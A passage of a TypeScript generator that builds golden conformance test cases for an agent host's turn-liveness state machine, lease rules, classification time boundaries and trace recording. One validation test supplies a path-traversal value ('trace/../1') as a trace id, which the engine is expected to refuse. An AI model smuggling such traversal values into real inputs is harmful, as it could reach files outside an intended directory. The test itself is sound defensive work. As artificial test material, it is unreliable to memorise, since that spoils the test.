// Golden cases of the liveness.*, checkpoint.validate and trace.* methods
// (docs/spec/turn-liveness-recovery-gate.md, docs/spec/local-task-trace-gate.md): every edge of
// the turn state machine (accepted and refused), every classification boundary, card emission
// at most once per noticeKey, the checkpoint decision table row by row, every recorder rule, the
// trace bounds and the read-only replay. Every expected value is computed here by running the
// pure engines on a mirror of the implementation's state with the same fixed clock, never
// written by hand. scripts/cases/generate.ts writes them to conformance/cases/{liveness,
// checkpoint,trace}/.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  applyTurnEvent,
  type CheckpointEvidence,
  classify,
  createTurnState,
  type LeaseRequest,
  LocalTaskTraceRecorder,
  ManualClock,
  observeTurnState,
  rehydrateTurnState,
  requestLease,
  type TraceAppendInput,
  type TraceAppendResult,
  type TraceOpenInput,
  type TraceRefusal,
  type TurnEventContext,
  type TurnHostEvent,
  validateCheckpoint,
  watchdogCheck,
} from '@agent-contracts/engines';
import type { Case, Step } from '@agent-contracts/harness';
import {
  foldPrefixDigest,
  type LocalTaskTraceEvent,
  type LocalTaskTraceTerminalResult,
  type TurnLivenessStateV1,
  type TurnLivenessThresholdsV1,
} from '@agent-contracts/schemas';
import { validate } from '@agent-contracts/validators';
import { requirementsOf } from './requirements.ts';

const repo = fileURLToPath(new URL('../../', import.meta.url));
const fixtures = join(repo, 'conformance/fixtures');

const LIVENESS_PAGE = 'docs/spec/turn-liveness-recovery-gate.md';
const TRACE_PAGE = 'docs/spec/local-task-trace-gate.md';

/** GitHub-style heading anchors of a page (duplicates get `-1`, `-2`, ...). */
function anchors(page: string): Set<string> {
  const seen = new Map<string, number>();
  const out = new Set<string>();
  for (const line of readFileSync(join(repo, page), 'utf8').split('\n')) {
    const m = /^#{1,6} (.*)$/.exec(line);
    if (!m) continue;
    const base = m[1]!
      .toLowerCase()
      .replace(/[^a-z0-9 -]/g, '')
      .trim()
      .replace(/ /g, '-');
    const n = seen.get(base) ?? 0;
    seen.set(base, n + 1);
    out.add(n === 0 ? base : `${base}-${n}`);
  }
  return out;
}
const ANCHORS = { [LIVENESS_PAGE]: anchors(LIVENESS_PAGE), [TRACE_PAGE]: anchors(TRACE_PAGE) };
const spec = (page: keyof typeof ANCHORS, anchor: string): string => {
  if (!ANCHORS[page].has(anchor)) throw new Error(`${page} has no heading #${anchor}`);
  return `${page}#${anchor}`;
};

/** Round-trip through JSON: what the implementation's reply looks like on the wire. */
const wire = <T>(v: T): T => (v === undefined ? v : (JSON.parse(JSON.stringify(v)) as T));
// A step's `{ state, card }`: exactly, unless there is a card, whose free-text `message` (a
// human-readable notice the page gives no wording for) is left out of the comparison.
const stepExpect = (state: unknown, card: { message: string } | null) => {
  if (card === null) return { result: wire({ state, card }) };
  const { message: _message, ...rest } = wire(card);
  return { match: { state: wire(state), card: rest } };
};
/**
 * A refused event's expectation: its code, and the counted state and card its `data` carries as a
 * result would (docs/protocol.md, liveness.event); a card's message is the implementation's text.
 */
const refusedExpect = (code: string, state: unknown, card: { message: string } | null) => {
  if (card === null) return { error: code, data: wire({ state, card }) };
  const { message: _message, ...rest } = wire(card);
  return { error: code, data: { state: wire(state), card: rest } };
};
/**
 * A refused trace operation's expectation: its code and the `data` docs/protocol.md requires
 * (`step`; `violations` for A2, compared without their messages; `eventId` for A7).
 */
const traceRefused = (r: TraceRefusal) => ({
  error: r.code,
  data: {
    step: r.step,
    ...(r.violations
      ? { violations: r.violations.map(({ errorCode, eventIndex }) => ({ errorCode, eventIndex })) }
      : {}),
    ...(r.eventId ? { eventId: r.eventId } : {}),
  },
});
const iso = (ms: number) => new Date(ms).toISOString();
const fixture = (path: string): unknown => JSON.parse(readFileSync(join(fixtures, path), 'utf8'));
const fixtureNames = (contract: string, kind: 'valid' | 'invalid') =>
  readdirSync(join(fixtures, contract, kind))
    .sort()
    .filter((f) => f.endsWith('.json') && !f.endsWith('.expected.json'));

/** T0 of the page's fault scenarios. */
const T0 = Date.parse('2026-11-30T05:41:12.000Z');

/** A host event as the protocol carries it (`at`: RFC 3339, default the implementation's clock). */
type WireEvent = { readonly type: string; readonly at?: string; readonly [k: string]: unknown };

const ups = (turnKey: string, extra: Record<string, unknown> = {}): WireEvent => ({
  type: 'UserPromptSubmit',
  turnKey,
  ...extra,
});
const pre = (
  operationId: string,
  opts: { tool?: string; decision?: 'allowed' | 'blocked'; mutating?: boolean; targets?: string[] } = {},
): WireEvent => ({
  type: 'PreToolUse',
  operationId,
  toolName: opts.tool ?? 'Edit',
  hostDecision: opts.decision ?? 'allowed',
  mutating: opts.mutating ?? true,
  ...(opts.targets ? { targetPaths: opts.targets } : {}),
});
const post = (operationId: string, extra: Record<string, unknown> = {}): WireEvent => ({
  type: 'PostToolUse',
  operationId,
  ...extra,
});
const ev = (type: string, extra: Record<string, unknown> = {}): WireEvent => ({ type, ...extra });

/** The engine event the implementation builds from a wire event (the same mapping as its params reader). */
function engineEvent(e: WireEvent, nowMs: number): TurnHostEvent {
  const { at, ...rest } = e;
  return { ...rest, at: at === undefined ? nowMs : Date.parse(at) } as unknown as TurnHostEvent;
}

type Expect = Step['expect'];

/** Params of checkpoint.validate (the engine's CheckpointValidationInput). */
interface CheckpointParams {
  readonly turnKey: string;
  readonly mode: string;
  readonly evidence: readonly CheckpointEvidence[];
  readonly deadlineAt: string | null;
  readonly blockingIssues?: readonly string[];
  readonly requiredActions?: readonly string[];
}

/** A mirror of one implementation session: its clock, turn state and trace, and the steps sent so far. */
class Session {
  readonly steps: Step[] = [];
  readonly clock = new ManualClock(T0);
  turn: TurnLivenessStateV1 = createTurnState({ initializedAt: T0 });
  turnValid = true;
  recorder = new LocalTaskTraceRecorder(this.clock);
  /** Whether a step expects a TurnTerminal the recorder built itself (close, or O2 in `open`). */
  recorderTerminal = false;

  step(method: string, params: unknown, expect: Expect, capture?: Record<string, string>): void {
    this.steps.push({ method, params, expect, ...(capture ? { capture } : {}) });
  }
  get now(): number {
    return this.clock.now();
  }

  // clock
  set(ms: number): this {
    this.clock.set(ms);
    this.step('clock.set', { now: iso(ms) }, { result: { now: iso(ms) } });
    return this;
  }
  advance(ms: number): this {
    this.clock.advance(ms);
    this.step('clock.advance', { ms }, { result: { now: iso(this.now) } });
    return this;
  }

  // liveness
  reset(thresholds?: Partial<TurnLivenessThresholdsV1>): this {
    this.turn = createTurnState({ initializedAt: this.now, ...(thresholds ? { thresholds } : {}) });
    this.turnValid = true;
    this.step('liveness.reset', thresholds ? { thresholds } : {}, { result: wire(this.turn) });
    return this;
  }
  /** Deliver a host event; the step expects the whole result, or the refusal's code. */
  event(e: WireEvent, context?: TurnEventContext): ReturnType<typeof applyTurnEvent> {
    const r = applyTurnEvent(this.turn, engineEvent(e, this.now), context ?? { unresolvedOperation: false });
    this.turn = r.state;
    this.step(
      'liveness.event',
      { event: e, ...(context ? { context } : {}) },
      r.ok ? stepExpect(r.state, r.card) : refusedExpect(r.code, r.state, r.card),
    );
    return r;
  }
  /** Several events whose results must all be accepted. */
  events(...es: WireEvent[]): this {
    for (const e of es) {
      const r = this.event(e);
      if (!r.ok) throw new Error(`setup event ${e.type} was refused: ${r.code}`);
    }
    return this;
  }
  state(): this {
    this.step(
      'liveness.state',
      {},
      this.turnValid ? { result: wire(this.turn) } : { error: 'TURN_STATE_INVALID' },
    );
    return this;
  }
  classify(): ReturnType<typeof classify> | null {
    if (!this.turnValid) {
      this.step('liveness.classify', {}, { error: 'TURN_STATE_INVALID' });
      return null;
    }
    const c = classify(this.turn, this.clock);
    this.step('liveness.classify', {}, { result: wire(c) });
    return c;
  }
  evidence(): this {
    this.step(
      'liveness.evidence',
      {},
      this.turnValid
        ? { result: wire(observeTurnState(this.turn, this.clock)) }
        : { error: 'TURN_STATE_INVALID' },
    );
    return this;
  }
  watchdog(): ReturnType<typeof watchdogCheck> {
    const r = watchdogCheck(this.turn, this.clock);
    this.turn = r.state;
    this.step('liveness.watchdog', {}, stepExpect(r.state, r.card));
    return r;
  }
  lease(request: LeaseRequest): this {
    const r = requestLease(this.turn, request);
    this.step('liveness.lease', request, r.ok ? { result: { ok: true } } : { error: r.code });
    return this;
  }
  /** `liveness.rehydrate` of a document (passed as `param`, e.g. a `$fixture` or `$var` reference). */
  rehydrate(document: unknown, param: unknown = document): this {
    const r = rehydrateTurnState(document, (d) => validate(d, { contract: 'TurnLivenessStateV1' }));
    this.turnValid = r.ok;
    if (r.ok) this.turn = r.state;
    this.step('liveness.rehydrate', { state: param }, r.ok ? { result: wire(r.state) } : { error: r.code });
    return this;
  }

  // checkpoint
  checkpoint(params: CheckpointParams): this {
    const r = validateCheckpoint(params, this.clock);
    this.step(
      'checkpoint.validate',
      params,
      r.ok
        ? { result: wire(r.result) }
        : { error: r.code, data: { requiredActions: [...r.requiredActions] } },
    );
    return this;
  }

  // trace
  traceLoad(document: unknown, param: unknown = document): this {
    this.recorder = new LocalTaskTraceRecorder(this.clock, document);
    this.step('trace.load', { trace: param }, { result: null });
    return this;
  }
  traceOpen(input: TraceOpenInput): this {
    const before = this.recorder.trace;
    const r = this.recorder.open(input);
    // O2: opening another turn closes the open trace with a terminal the recorder builds, so
    // `previous` is a new trace rather than the one held before.
    if (r.ok && r.previous !== null && r.previous !== before) this.recorderTerminal = true;
    this.step(
      'trace.open',
      input,
      r.ok
        ? { result: wire({ trace: r.trace, unchanged: r.unchanged, previous: r.previous }) }
        : traceRefused(r),
    );
    return this;
  }
  /** Append; `expect` 'full' compares the whole reply, 'brief' only the event written and what was dropped. */
  traceAppend(input: TraceAppendInput, expect: 'full' | 'brief' = 'full'): TraceAppendResult {
    return this.#appended('trace.append', input, this.recorder.append(input), expect);
  }
  traceClose(result: LocalTaskTraceTerminalResult, reason: string): TraceAppendResult {
    const r = this.recorder.close(result, reason);
    if (r.ok) this.recorderTerminal = true;
    return this.#appended('trace.close', { result, reason }, r, 'full');
  }
  #appended(
    method: string,
    params: unknown,
    r: TraceAppendResult,
    expect: 'full' | 'brief',
  ): TraceAppendResult {
    if (!r.ok) this.step(method, params, traceRefused(r));
    else if (expect === 'full')
      this.step(method, params, { result: wire({ trace: r.trace, event: r.event, dropped: r.dropped }) });
    else
      this.step(method, params, {
        match: {
          trace: {
            sequence: r.trace.sequence,
            sequenceBase: r.trace.sequenceBase,
            droppedEvents: r.trace.droppedEvents,
            prefixDigest: r.trace.prefixDigest,
          },
          event: { eventId: r.event.eventId, sequence: r.event.sequence, observedAt: r.event.observedAt },
          dropped: r.dropped.map((d) => ({ eventId: d.eventId, sequence: d.sequence })),
        },
      });
    return r;
  }
  traceReplay(): this {
    // Every member of the replay but the violations' free-text `message`, which the schema says
    // conformance never compares (LocalTaskTraceReplayV1 `violations[].message`).
    const replay = wire(this.recorder.replay()) as { violations: { message?: unknown }[] };
    const violations = replay.violations.map(({ message: _message, ...rest }) => rest);
    this.step('trace.replay', {}, { match: { ...replay, violations } });
    return this;
  }
  traceCurrent(): this {
    this.step('trace.current', {}, { result: wire(this.recorder.trace) });
    return this;
  }
}

interface CaseMeta {
  readonly id: string;
  readonly title: string;
  readonly gate: 'TurnLivenessRecoveryGate' | 'LocalTaskTraceGate';
  readonly subject: string;
  readonly spec: string;
  readonly requires: readonly string[];
}

const groups = { liveness: [] as Case[], checkpoint: [] as Case[], trace: [] as Case[] };

function add(meta: CaseMeta, build: (s: Session) => void): void {
  const s = new Session();
  build(s);
  const group = meta.id.split('/')[0] as keyof typeof groups;
  const head = { title: meta.title, gate: meta.gate, subject: meta.subject, spec: meta.spec };
  const requires = [...meta.requires];
  // A case that expects a terminal the recorder built compares its fixed occurrence key
  // `turn-terminal`, payload and event id whole (LTT-500).
  const extra = s.recorderTerminal ? ['LTT-500'] : [];
  groups[group].push({
    id: meta.id,
    ...head,
    ...requirementsOf({ id: meta.id, spec: meta.spec, steps: s.steps }, 'operation', extra),
    requires,
    steps: s.steps,
  });
}

const LIVE = ['liveness', 'clock'] as const;
const CHECK = ['checkpoint', 'clock'] as const;
const TRACE = ['trace', 'clock'] as const;

// ---------------------------------------------------------------------------------------------
// Turn state machine: every edge row, accepted and refused
// ---------------------------------------------------------------------------------------------

const edge = (name: string, title: string, build: (s: Session) => void) =>
  add(
    {
      id: `liveness/TurnLivenessStateV1/edge/${name}`,
      title,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessStateV1',
      spec: spec(LIVENESS_PAGE, 'state-machine'),
      requires: LIVE,
    },
    build,
  );

/** Start the turn `req_01` at T0 from a fresh idle state. */
const started = (s: Session) => {
  s.set(T0).reset();
  s.events(ups('req_01'));
};
/** Started, then an allowed lease `op1` at +1 s and its output at +2 s: awaiting-continuation. */
const awaiting = (s: Session, targets?: string[]) => {
  started(s);
  s.advance(1000).events(pre('op1', targets ? { targets } : {}));
  s.advance(1000).events(post('op1'));
};

edge(
  'idle-user-prompt-submit',
  'idle + UserPromptSubmit starts a turn (S): running, checkpoint turn-started',
  (s) => {
    started(s);
    s.classify();
  },
);
edge(
  'idle-user-prompt-submit-derived-key',
  'a host without turn ids gets a turn key derived from the session key',
  (s) => {
    s.set(T0).reset();
    s.events({ type: 'UserPromptSubmit', sessionKey: 'sess_7f3a' });
  },
);
edge(
  'running-user-prompt-submit-supersedes',
  'a new prompt over a running turn ends it as interrupted / superseded-by-new-prompt',
  (s) => {
    started(s);
    s.advance(1000).events(pre('op1'));
    s.advance(4000).events(ups('req_02'));
  },
);
edge(
  'awaiting-user-prompt-submit-recovers-stale-turn',
  'a new prompt over a stale awaiting turn emits one card and ends it as stale-turn-recovered-by-new-prompt',
  (s) => {
    awaiting(s);
    s.advance(600_000).events(ups('req_02'));
  },
);
for (const [end, status] of [
  ['Stop', 'completed'],
  ['TurnError', 'error'],
  ['TurnInterrupted', 'interrupted'],
] as const) {
  edge(
    `${status}-user-prompt-submit`,
    `a new prompt after a ${status} turn records it as previousTurn and starts the next`,
    (s) => {
      started(s);
      s.advance(3000).events(ev(end));
      s.advance(3000).events(ups('req_02'));
    },
  );
}
edge(
  'running-pre-tool-use-allowed-leases',
  'an allowed PreToolUse in a running turn gets the agent-owned lease (L)',
  (s) => {
    started(s);
    s.advance(1000).events({
      ...pre('op1', { targets: ['src/app.ts', 'src/app.ts', 'README.md'] }),
      operationRecordDigest: 'a'.repeat(64),
    });
  },
);
edge(
  'awaiting-pre-tool-use-allowed-acknowledges',
  'an allowed PreToolUse while awaiting acknowledges continuation and leases (A)(L)',
  (s) => {
    awaiting(s);
    s.advance(5000).events(pre('op2', { tool: 'Bash', mutating: false }));
  },
);
edge(
  'running-pre-tool-use-lease-held',
  'a second allowed call while a lease is in flight gets no lease: TURN_OPERATION_LEASE_HELD',
  (s) => {
    started(s);
    s.advance(1000).events(pre('op1'));
    s.advance(1000).event(pre('op2', { tool: 'Read', mutating: false }));
    s.state();
  },
);
edge(
  'running-pre-tool-use-blocked',
  'a blocked PreToolUse gets no lease and leaves the checkpoint: TURN_LEASE_NOT_HOST_ALLOWED',
  (s) => {
    started(s);
    s.advance(1000).event(pre('op1', { decision: 'blocked' }));
    s.state();
  },
);
edge(
  'awaiting-pre-tool-use-blocked-acknowledges',
  'a blocked PreToolUse while awaiting acknowledges continuation, without a lease',
  (s) => {
    awaiting(s);
    s.advance(1000).event(pre('op2', { decision: 'blocked' }));
    s.state();
  },
);
edge(
  'running-post-tool-use-success',
  'the PostToolUse of the lease moves to awaiting-continuation (tool-output-persisted, targets as artifacts)',
  (s) => {
    awaiting(s, ['src/app.ts', 'src/lib.ts']);
    s.classify();
  },
);
edge('running-post-tool-use-error', 'an error output writes phase tool-error-observed', (s) => {
  started(s);
  s.advance(1000).events(pre('op1', { tool: 'Bash', mutating: false }));
  s.advance(1000).events(post('op1', { outcome: 'error' }));
});
edge(
  'running-post-tool-use-mutated-targets',
  'the targets the call changed are appended to the checkpoint artifacts',
  (s) => {
    started(s);
    s.advance(1000).events(pre('op1', { targets: ['src/a.ts'] }));
    s.advance(1000).events(post('op1', { mutatedTargets: ['src/a.ts', 'src/b.ts'] }));
  },
);
edge(
  'awaiting-post-tool-use-duplicate',
  'a re-delivered PostToolUse moves eventSequence only (awaiting)',
  (s) => {
    awaiting(s);
    s.advance(30_000).events(post('op1'));
    s.advance(30_000).events(post('op1'));
  },
);
edge(
  'running-post-tool-use-duplicate',
  'a re-delivered PostToolUse after the agent continued moves eventSequence only (running)',
  (s) => {
    awaiting(s);
    s.advance(1000).events(ev('PreCompact'));
    s.advance(1000).events(post('op1'));
  },
);
edge(
  'running-post-tool-use-unmatched',
  'a PostToolUse naming neither the lease nor the last output: TURN_TOOL_OUTPUT_UNMATCHED, lease untouched',
  (s) => {
    started(s);
    s.advance(1000).events(pre('op1'));
    s.advance(1000).event(post('op9'));
    s.state();
  },
);
edge(
  'awaiting-post-tool-use-unmatched',
  'an unmatched PostToolUse while awaiting is refused and changes nothing else',
  (s) => {
    awaiting(s);
    s.advance(1000).event(post('op9'));
    s.state();
  },
);
edge(
  'running-pre-compact',
  'PreCompact in a running turn writes phase pre-compact; it is not terminal evidence',
  (s) => {
    started(s);
    s.advance(1000).events(ev('PreCompact'));
  },
);
edge(
  'running-pre-compact-keeps-lease',
  'PreCompact while a lease is in flight keeps the lease and names its operation',
  (s) => {
    started(s);
    s.advance(1000).events(pre('op1'));
    s.advance(1000).events(ev('PreCompact'));
  },
);
edge('awaiting-pre-compact-acknowledges', 'PreCompact while awaiting acknowledges continuation (A)', (s) => {
  awaiting(s);
  s.advance(1000).events(ev('PreCompact'));
});
edge(
  'running-stop-completes',
  'Stop with settled operations completes the turn (T host-stop); post-execution passes',
  (s) => {
    started(s);
    s.advance(1000).events(ev('Stop'));
    s.classify();
  },
);
edge('awaiting-stop-completes', 'Stop while awaiting acknowledges and completes the turn', (s) => {
  awaiting(s);
  s.advance(1000).events(ev('Stop'));
});
edge(
  'stop-operations-unsettled',
  'Stop while the task has an unresolved operation: TURN_TERMINAL_OPERATIONS_UNSETTLED, post-execution blocked; a later Stop completes',
  (s) => {
    awaiting(s);
    s.advance(1000).event(ev('Stop'), { unresolvedOperation: true });
    s.state();
    s.advance(1000).event(ev('UnknownHostEvent'), { unresolvedOperation: true });
    s.advance(1000).event(ev('Stop'), { unresolvedOperation: false });
  },
);
/** A `settledSetDigest` the host read before event `n` (1 to 9). */
const setDigest = (n: number) => String(n).repeat(64);
edge(
  'task-operation-set-digest-copied',
  'a supplied taskOperationSetDigest is stored by every processed event, a refused or duplicate one included, and left alone by an event that is only counted',
  (s) => {
    s.set(T0).reset();
    s.event(ups('req_01'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(1) });
    s.advance(1000).event(pre('op1'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(2) });
    // Refused (a lease is in flight), still processed beyond counting.
    s.advance(1000).event(pre('op2', { tool: 'Read', mutating: false }), {
      unresolvedOperation: false,
      taskOperationSetDigest: setDigest(3),
    });
    s.state();
    s.advance(1000).event(post('op1'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(4) });
    // A duplicate result while awaiting continuation.
    s.advance(1000).event(post('op1'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(5) });
    s.state();
    s.advance(1000).event(ev('Stop'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(6) });
    // Only counted in a terminal state: the stored digest stays that of the Stop.
    s.advance(1000).event(pre('op3'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(7) });
    s.state();
  },
);
edge(
  'refused-prompt-copies-task-operation-set-digest',
  'a UserPromptSubmit refused for its turn key or trace id, in idle and while running, still stores the supplied taskOperationSetDigest (TLR-500: every UserPromptSubmit is processed beyond counting)',
  (s) => {
    s.set(T0).reset();
    s.event(ups('bad key!'), { unresolvedOperation: false, taskOperationSetDigest: setDigest(1) });
    s.state();
    s.advance(1000).event(ups('req_01', { taskTraceId: 'bad id!' }), {
      unresolvedOperation: false,
      taskOperationSetDigest: setDigest(2),
    });
    s.state();
    s.advance(1000).event(ups('req_01'), {
      unresolvedOperation: false,
      taskOperationSetDigest: setDigest(3),
    });
    s.advance(1000).event(ups('bad key!'), {
      unresolvedOperation: false,
      taskOperationSetDigest: setDigest(4),
    });
    s.state();
  },
);
edge(
  'read-only-output-adds-no-artifact',
  'the output of a call that is not mutating, with declared target paths and no mutatedTargets, adds nothing to the checkpoint artifacts; a mutating one adds its targets',
  (s) => {
    s.set(T0).reset();
    s.event(ups('req_01'));
    s.advance(1000).event(pre('op1', { tool: 'Read', mutating: false, targets: ['src/app.ts'] }));
    s.advance(1000).event(post('op1', { outcome: 'success' }));
    s.advance(1000).event(pre('op2', { targets: ['src/util.ts'] }));
    s.advance(1000).event(post('op2', { outcome: 'success' }));
    s.state();
  },
);
edge('running-turn-error', 'TurnError ends the turn as error (T host-error)', (s) => {
  started(s);
  s.advance(1000).events(ev('TurnError'));
});
edge(
  'awaiting-turn-interrupted',
  'TurnInterrupted while awaiting ends the turn as interrupted (A)(T host-interrupt)',
  (s) => {
    awaiting(s);
    s.advance(1000).events(ev('TurnInterrupted'));
  },
);
edge(
  'running-unknown-host-event',
  'UnknownHostEvent in a running turn is counted and keeps it running',
  (s) => {
    started(s);
    s.advance(1000).events(ev('UnknownHostEvent'));
  },
);
edge(
  'awaiting-unknown-host-event-acknowledges',
  'UnknownHostEvent while awaiting acknowledges continuation',
  (s) => {
    awaiting(s);
    s.advance(1000).events(ev('UnknownHostEvent'));
  },
);
edge(
  'event-time-behind-is-raised',
  'an event time earlier than lastEventAt is raised to it: time evidence never moves backwards',
  (s) => {
    started(s);
    s.advance(60_000).events(pre('op1'));
    s.events({ ...post('op1'), at: iso(T0 + 10_000) });
    s.classify();
  },
);
edge('event-at-host-time', 'the host event time, not the observer clock, is what the state records', (s) => {
  s.set(T0 + 3_600_000).reset();
  s.events({ ...ups('req_01'), at: iso(T0 + 3_600_000 + 1000) });
  s.events({ ...pre('op1'), at: iso(T0 + 3_600_000 + 2000) });
});
edge(
  'thresholds-normalised-on-reset',
  'threshold overrides are normalised before they are stored (stalledAfterMs raised to suspectAfterMs)',
  (s) => {
    s.set(T0).reset({ suspectAfterMs: 400_000, stalledAfterMs: 200_000, operationLeaseMs: -5 });
    s.events(ups('req_01'));
    s.advance(450_000).classify();
  },
);

const OTHER_EVENTS: WireEvent[] = [
  pre('op1'),
  post('op1'),
  ev('PreCompact'),
  ev('Stop'),
  ev('TurnError'),
  ev('TurnInterrupted'),
  ev('UnknownHostEvent'),
];
for (const e of OTHER_EVENTS) {
  add(
    {
      id: `liveness/TurnLivenessStateV1/refused/idle-${e.type}`,
      title: `${e.type} before any turn is refused with TURN_NOT_STARTED and only counted`,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessStateV1',
      spec: spec(LIVENESS_PAGE, 'state-machine'),
      requires: LIVE,
    },
    (s) => {
      s.set(T0).reset();
      s.advance(1000).event(e);
      s.state().classify();
    },
  );
  add(
    {
      id: `liveness/TurnLivenessStateV1/refused/terminal-${e.type}`,
      title: `${e.type} after the turn completed is refused with TURN_TERMINAL_FINAL and only counted`,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessStateV1',
      spec: spec(LIVENESS_PAGE, 'state-machine'),
      requires: LIVE,
    },
    (s) => {
      started(s);
      s.advance(1000).events(ev('Stop'));
      s.advance(1000).event(e);
      s.state();
    },
  );
}
add(
  {
    id: 'liveness/TurnLivenessStateV1/refused/turn-key-reused-current',
    title: "a new prompt reusing the current turn's key is refused with TURN_KEY_REUSED",
    gate: 'TurnLivenessRecoveryGate',
    subject: 'TurnLivenessStateV1',
    spec: spec(LIVENESS_PAGE, 'identity-and-digests-1'),
    requires: LIVE,
  },
  (s) => {
    started(s);
    s.advance(1000).event(ups('req_01'));
    s.state();
  },
);
add(
  {
    id: 'liveness/TurnLivenessStateV1/refused/turn-key-reused-previous',
    title: "a new prompt reusing the previous turn's key is refused with TURN_KEY_REUSED",
    gate: 'TurnLivenessRecoveryGate',
    subject: 'TurnLivenessStateV1',
    spec: spec(LIVENESS_PAGE, 'identity-and-digests-1'),
    requires: LIVE,
  },
  (s) => {
    started(s);
    s.advance(1000).events(ev('Stop'));
    s.advance(1000).events(ups('req_02'));
    s.advance(1000).event(ups('req_01'));
    s.state();
  },
);

add(
  {
    id: 'liveness/TurnLivenessStateV1/refused/turn-key-invalid',
    title: 'a new prompt whose host turn key is outside the turn key format is refused with TURN_KEY_INVALID',
    gate: 'TurnLivenessRecoveryGate',
    subject: 'TurnLivenessStateV1',
    spec: spec(LIVENESS_PAGE, 'identity-and-digests-1'),
    requires: LIVE,
  },
  (s) => {
    started(s);
    s.advance(1000).events(ev('Stop'));
    s.advance(1000).event(ups('user@example.com'));
    s.state();
  },
);
add(
  {
    id: 'liveness/TurnLivenessStateV1/refused/trace-id-invalid',
    title: 'a new prompt whose task trace id is outside the key format is refused with TURN_TRACE_ID_INVALID',
    gate: 'TurnLivenessRecoveryGate',
    subject: 'TurnLivenessStateV1',
    spec: spec(LIVENESS_PAGE, 'identity-and-digests-1'),
    requires: LIVE,
  },
  (s) => {
    started(s);
    s.advance(1000).events(ev('Stop'));
    s.advance(1000).event(ups('req_02', { taskTraceId: 'trace/../1' }));
    s.state();
  },
);

// Lease requests: only a host-allowed tool call of the agent is ever leased.
const leaseCase = (name: string, title: string, build: (s: Session) => void) =>
  add(
    {
      id: `liveness/TurnLivenessStateV1/lease/${name}`,
      title,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessStateV1',
      spec: spec(LIVENESS_PAGE, 'active-lease'),
      requires: LIVE,
    },
    build,
  );
leaseCase(
  'user-process-refused',
  'a lease for a user process is refused with TURN_LEASE_NOT_HOST_ALLOWED',
  (s) => {
    started(s);
    s.lease({ kind: 'user-process' }).state();
  },
);
leaseCase('pid-refused', 'a lease for a PID is refused with TURN_LEASE_NOT_HOST_ALLOWED', (s) => {
  started(s);
  s.lease({ kind: 'pid', pid: 4242 }).state();
});
leaseCase(
  'blocked-tool-call-refused',
  'a lease for a blocked tool call is refused with TURN_LEASE_NOT_HOST_ALLOWED',
  (s) => {
    started(s);
    s.lease({ kind: 'tool-call', hostDecision: 'blocked' });
  },
);
leaseCase(
  'allowed-tool-call',
  'an allowed tool call may be leased in a running turn, and not while a lease is held',
  (s) => {
    started(s);
    s.lease({ kind: 'tool-call', hostDecision: 'allowed' });
    s.advance(1000).events(pre('op1'));
    s.lease({ kind: 'tool-call', hostDecision: 'allowed' });
  },
);
leaseCase('not-started-or-final', 'no lease before a turn starts or after it ended', (s) => {
  s.set(T0).reset();
  s.lease({ kind: 'tool-call', hostDecision: 'allowed' });
  s.events(ups('req_01'));
  s.advance(1000).events(ev('TurnInterrupted'));
  s.lease({ kind: 'tool-call', hostDecision: 'allowed' });
});

// Invariants that no edge may break.
add(
  {
    id: 'liveness/TurnLivenessStateV1/invariant/tool-output-never-completes',
    title: 'no sequence of tool outputs completes a turn or passes post-execution',
    gate: 'TurnLivenessRecoveryGate',
    subject: 'TurnLivenessStateV1',
    spec: spec(LIVENESS_PAGE, 'state-machine'),
    requires: LIVE,
  },
  (s) => {
    started(s);
    for (const op of ['op1', 'op2', 'op3']) {
      s.advance(1000).events(pre(op));
      s.advance(1000).events(post(op));
      s.advance(1000).events(post(op));
    }
    s.advance(3_000_000).classify();
  },
);
for (const end of ['Stop', 'TurnError', 'TurnInterrupted'] as const) {
  add(
    {
      id: `liveness/TurnLivenessStateV1/invariant/terminal-clears-lease-${end}`,
      title: `${end} while a lease is in flight clears the lease`,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessStateV1',
      spec: spec(LIVENESS_PAGE, 'state-machine'),
      requires: LIVE,
    },
    (s) => {
      started(s);
      s.advance(1000).events(pre('op1'));
      s.advance(1000).events(ev(end));
      s.advance(5_000_000).classify();
    },
  );
}

// ---------------------------------------------------------------------------------------------
// Classification boundaries (fixed clock)
// ---------------------------------------------------------------------------------------------

const boundary = (name: string, title: string, setup: (s: Session) => number, offset: number) =>
  add(
    {
      id: `liveness/TurnLivenessStateV1/classify/${name}`,
      title,
      gate: 'TurnLivenessRecoveryGate',
      subject: 'TurnLivenessStateV1',
      spec: spec(LIVENESS_PAGE, 'classification'),
      requires: LIVE,
    },
    (s) => {
      const ref = setup(s);
      s.set(ref + offset);
      s.classify();
      s.state(); // classification changes no byte of the state
    },
  );
const setupAwaiting = (s: Session) => {
  awaiting(s);
  return T0 + 2000;
};
const setupLease = (s: Session) => {
  started(s);
  s.advance(10_000).events(pre('op2', { targets: ['src/app.ts'] }));
  return T0 + 10_000;
};
const setupRunning = (s: Session) => {
  started(s);
  return T0;
};
for (const [offset, what] of [
  [119_999, 'awaiting-continuation / within-grace'],
  [120_000, 'suspect / continuation-grace-expired'],
  [299_999, 'suspect / continuation-grace-expired'],
  [300_000, 'stalled-recoverable / continuation-timeout'],
  [-5000, 'awaiting-continuation / within-grace (clock behind)'],
] as const)
  boundary(
    `awaiting-${offset < 0 ? 'clock-behind' : offset}`,
    `awaiting, out = T, now T${offset < 0 ? '' : '+'}${offset}: ${what}`,
    setupAwaiting,
    offset,
  );
for (const [offset, what] of [
  [1_200_000, 'running / active-operation-lease'],
  [1_799_999, 'running / active-operation-lease'],
  [1_800_000, 'suspect / operation-lease-expired'],
  [2_099_999, 'suspect / operation-lease-expired'],
  [2_100_000, 'stalled-recoverable / operation-lease-expired'],
] as const)
  boundary(`lease-${offset}`, `lease started at T, now T+${offset}: ${what}`, setupLease, offset);
for (const [offset, what] of [
  [300_000, 'running / agent-turn-within-lease'],
  [1_799_999, 'running / agent-turn-within-lease'],
  [1_800_000, 'suspect / agent-turn-lease-expired'],
